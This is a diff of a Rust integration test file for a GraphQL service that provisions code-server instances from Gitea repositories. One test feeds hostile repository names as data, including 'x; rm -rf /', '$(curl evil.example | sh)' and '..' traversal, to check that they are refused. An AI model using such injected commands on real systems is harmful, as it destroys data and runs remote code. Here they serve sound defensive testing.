@@ -1,20 +1,17 @@
 //! The GraphQL API through the warp filter, in-process, against the simulated issuer and
 //! Gitea.
 
-use std::{
-    sync::{
-        Arc,
-        atomic::{AtomicBool, Ordering},
-    },
-    time::Duration,
-};
+use std::{sync::Arc, time::Duration};
 
 use codeserver_service::{
-    auth::{AuthSettings, Authenticator},
-    gitea::{GiteaClient, GiteaSettings},
-    graphql::{self, Services},
-    http::{self, App, ReadyCheck},
+    auth::AuthSettings,
+    config::InstanceSettings,
+    gitea::GiteaSettings,
+    http,
     metrics::Metrics,
+    reconcile::{Kinds, Reconciler, Timeouts},
+    render::{ActiveTemplates, Templates},
+    serve::{self, Parts},
     sim::{
         gitea::{Fault, SimGitea},
         issuer::{DEFAULT_AUDIENCE, Issuer, TokenSpec},
@@ -27,53 +24,72 @@ struct Harness {
     issuer: Arc<Issuer>,
     gitea: SimGitea,
     metrics: Metrics,
-    ready: Arc<AtomicBool>,
     base: String,
     client: reqwest::Client,
     _stop: tokio::sync::oneshot::Sender<()>,
 }
 
+fn instance_settings() -> InstanceSettings {
+    InstanceSettings {
+        namespace: "codeserver-instances".into(),
+        pvc_storage_class: "standard".into(),
+        pvc_size: "10Gi".into(),
+        image: "codercom/code-server:latest".into(),
+        cpu: "500m".into(),
+        memory: "1Gi".into(),
+        cpu_limit: "2".into(),
+        memory_limit: "4Gi".into(),
+        base_domain: "devplatform.local".into(),
+        templates_dir: None,
+        values_files: vec![],
+    }
+}
+
+/// A Kubernetes client for an address where nothing listens: any cluster call fails, so
+/// an answer other than `internal error` proves the cluster was never called.
+async fn unreachable_cluster() -> kube::Client {
+    codeserver_service::install_crypto();
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let url = format!("http://{}", listener.local_addr().unwrap());
+    drop(listener);
+    let config = kube::Config::new(url.parse().unwrap());
+    kube::Client::try_from(config).unwrap()
+}
+
 async fn harness() -> Harness {
+    harness_on(unreachable_cluster().await).await
+}
+
+async fn harness_on(cluster: kube::Client) -> Harness {
     let issuer = Arc::new(Issuer::start().await.unwrap());
     let gitea = SimGitea::start(issuer.clone()).await.unwrap();
     let metrics = Metrics::new().unwrap();
-    let auth = Authenticator::new(AuthSettings {
-        jwks_url: issuer.jwks_url(),
-        issuer: Some(issuer.issuer_url()),
-        audience: Some(DEFAULT_AUDIENCE.to_owned()),
-        ..AuthSettings::default()
+    let reconciler = Arc::new(Reconciler::new(
+        cluster,
+        Kinds::new(Some("v1".to_owned())),
+        Arc::new(ActiveTemplates::new(Templates::builtin().unwrap())),
+        instance_settings(),
+        Timeouts {
+            ready: Duration::from_secs(5),
+            ..Timeouts::default()
+        },
+    ));
+    let routes = serve::assemble(Parts {
+        reconciler,
+        auth: AuthSettings {
+            jwks_url: issuer.jwks_url(),
+            issuer: Some(issuer.issuer_url()),
+            audience: Some(DEFAULT_AUDIENCE.to_owned()),
+            ..AuthSettings::default()
+        },
+        gitea: GiteaSettings {
+            backoff: Duration::from_millis(5),
+            ..GiteaSettings::new(&gitea.url())
+        },
+        metrics: metrics.clone(),
     })
     .unwrap();
-    let client = GiteaClient::new(GiteaSettings {
-        backoff: Duration::from_millis(5),
-        ..GiteaSettings::new(&gitea.url())
-    })
-    .unwrap()
-    .with_metrics(metrics.clone());
-    let schema = graphql::schema(Services {
-        gitea: client,
-        admin_role: "admin".to_owned(),
-        metrics: metrics.clone(),
-    });
-    let ready = Arc::new(AtomicBool::new(true));
-    let flag = ready.clone();
-    let check: ReadyCheck = Arc::new(move || {
-        let ok = flag.load(Ordering::SeqCst);
-        Box::pin(async move {
-            if ok {
-                Ok(())
-            } else {
-                Err("kubernetes API unreachable".to_owned())
-            }
-        })
-    });
-    let filter = http::routes(App {
-        schema,
-        auth,
-        ready: check,
-    })
-    .or(http::metrics_routes(metrics.clone()))
-    .unify();
+    let filter = routes.api.or(routes.metrics).unify();
     let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
     let base = format!("http://{}", listener.local_addr().unwrap());
     let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
@@ -85,12 +101,10 @@ async fn harness() -> Harness {
         },
         Duration::from_secs(1),
     ));
-    codeserver_service::install_crypto();
     Harness {
         issuer,
         gitea,
         metrics,
-        ready,
         base,
         client: reqwest::Client::new(),
         _stop: stop,
@@ -286,14 +300,23 @@ async fn request_ids_are_echoed_when_safe_and_replaced_when_not() {
 }
 
 #[tokio::test]
-async fn health_ready_and_metrics_endpoints() {
+async fn health_and_readiness_follow_the_cluster() {
     let h = harness().await;
-    assert_eq!(h.get("/health").await.status(), 200);
-    assert_eq!(h.get("/ready").await.status(), 200);
-    h.ready.store(false, Ordering::SeqCst);
+    assert_eq!(
+        h.get("/health").await.status(),
+        200,
+        "liveness needs nothing"
+    );
     let not_ready = h.get("/ready").await;
     assert_eq!(not_ready.status(), 503);
-    assert!(!not_ready.text().await.unwrap().contains("kubernetes"));
+    assert!(!not_ready.text().await.unwrap().contains("Kubernetes"));
+    let body = h.query(None, "{ health }").await;
+    assert_eq!(body["data"]["health"], false, "{body}");
+}
+
+#[tokio::test]
+async fn metrics_are_served_with_their_content_type() {
+    let h = harness().await;
     h.query(None, "{ myRepositories { name } }").await;
     let metrics = h.get("/metrics").await;
     assert_eq!(metrics.status(), 200);
@@ -316,4 +339,150 @@ async fn health_ready_and_metrics_endpoints() {
         .await
         .unwrap();
     assert_eq!(put.status(), 405);
+}
+
+#[tokio::test]
+async fn every_operation_needs_authentication() {
+    let h = harness().await;
+    for operation in [
+        "{ myCodeServers { id } }",
+        "{ codeServer(id: \"code-server-alice\") { id } }",
+        "{ codeServerStatus(id: \"code-server-alice\") }",
+        "{ codeServerLogs(id: \"code-server-alice\") }",
+        "{ instanceStats { totalInstances } }",
+        "{ renderCodeServer(repoOwner: \"devteam\", repoName: \"docs\") { manifests } }",
+        "{ planCodeServer(repoOwner: \"devteam\", repoName: \"docs\") { unchanged } }",
+        "mutation { provisionCodeServer(repoOwner: \"devteam\", repoName: \"docs\") { isNew } }",
+        "mutation { stopCodeServer(id: \"code-server-alice\") }",
+        "mutation { startCodeServer(id: \"code-server-alice\") { id } }",
+        "mutation { deleteCodeServer(id: \"code-server-alice\") }",
+        "mutation { syncRepository(id: \"code-server-alice\") }",
+    ] {
+        let body = h.query(None, operation).await;
+        assert_eq!(
+            error_of(&body),
+            ("unauthorized", "UNAUTHENTICATED"),
+            "{operation}: {body}"
+        );
+    }
+    assert_eq!(h.gitea.requests(), 0);
+}
+
+#[tokio::test]
+async fn hostile_arguments_are_refused_before_any_call() {
+    let h = harness().await;
+    let alice = h.token("alice");
+    let long = "a".repeat(10_000);
+    for (owner, name) in [
+        ("devteam", "x; rm -rf /"),
+        ("devteam", "$(curl evil.example | sh)"),
+        ("devteam", ".."),
+        ("..", "docs"),
+        ("devteam", "line\nbreak"),
+        ("devteam", long.as_str()),
+    ] {
+        let body = h
+            .post(
+                Some(&alice),
+                &json!({
+                    "query": "mutation($o: String!, $n: String!) { provisionCodeServer(repoOwner: $o, repoName: $n) { isNew } }",
+                    "variables": {"o": owner, "n": name},
+                }),
+            )
+            .await
+            .1;
+        let (message, code) = error_of(&body);
+        assert_eq!(code, "BAD_USER_INPUT", "{owner:?}/{name:.40?}: {body:.300}");
+        assert!(
+            !message.contains("rm -rf") && message.len() < 200,
+            "{message}"
+        );
+    }
+    for id in ["code-server-../x", "Code-Server-Alice", "x", long.as_str()] {
+        for operation in [
+            "query($id: String!) { codeServerStatus(id: $id) }",
+            "mutation($id: String!) { stopCodeServer(id: $id) }",
+            "mutation($id: String!) { deleteCodeServer(id: $id) }",
+            "mutation($id: String!) { syncRepository(id: $id) }",
+        ] {
+            let body = h
+                .post(
+                    Some(&alice),
+                    &json!({"query": operation, "variables": {"id": id}}),
+                )
+                .await
+                .1;
+            assert_eq!(error_of(&body).1, "BAD_USER_INPUT", "{operation} {id:.40}");
+        }
+    }
+    for lines in [0, -5, 10_001] {
+        let body = h
+            .post(
+                Some(&alice),
+                &json!({
+                    "query": "query($l: Int) { codeServerLogs(id: \"code-server-alice\", lines: $l) }",
+                    "variables": {"l": lines},
+                }),
+            )
+            .await
+            .1;
+        assert_eq!(error_of(&body).1, "BAD_USER_INPUT", "{lines}");
+    }
+    assert_eq!(h.gitea.requests(), 0, "nothing reached gitea");
+}
+
+#[tokio::test]
+async fn provisioning_a_repository_gitea_refuses_creates_nothing() {
+    let h = harness().await;
+    let bob = h.token("bob");
+    for (owner, name) in [("alice", "notes"), ("nobody", "nothing")] {
+        let body = h
+            .query(
+                Some(&bob),
+                &format!(
+                    "mutation {{ provisionCodeServer(repoOwner: \"{owner}\", repoName: \"{name}\") {{ isNew }} }}"
+                ),
+            )
+            .await;
+        // NB: the cluster is unreachable here, so reaching it would answer INTERNAL.
+        assert_eq!(
+            error_of(&body),
+            ("repository access denied", "FORBIDDEN"),
+            "{body}"
+        );
+    }
+    h.gitea.set_fault(Fault::Unavailable);
+    let body = h
+        .query(
+            Some(&bob),
+            "mutation { provisionCodeServer(repoOwner: \"devteam\", repoName: \"docs\") { isNew } }",
+        )
+        .await;
+    assert_eq!(
+        error_of(&body),
+        ("repository service unavailable", "INTERNAL"),
+        "{body}"
+    );
+}
+
+#[tokio::test]
+async fn admin_operations_need_the_admin_role() {
+    let h = harness().await;
+    let bob = h.token("bob");
+    let body = h
+        .query(Some(&bob), "{ instanceStats { totalInstances } }")
+        .await;
+    assert_eq!(error_of(&body), ("forbidden", "FORBIDDEN"), "{body}");
+    for field in ["renderCodeServer", "planCodeServer"] {
+        let body = h
+            .query(
+                Some(&bob),
+                &format!(
+                    "{{ {field}(repoOwner: \"devteam\", repoName: \"docs\", userId: \"alice\") {{ __typename }} }}"
+                ),
+            )
+            .await;
+        assert_eq!(error_of(&body), ("forbidden", "FORBIDDEN"), "{body}");
+    }
+    assert_eq!(h.gitea.requests(), 0);
 }
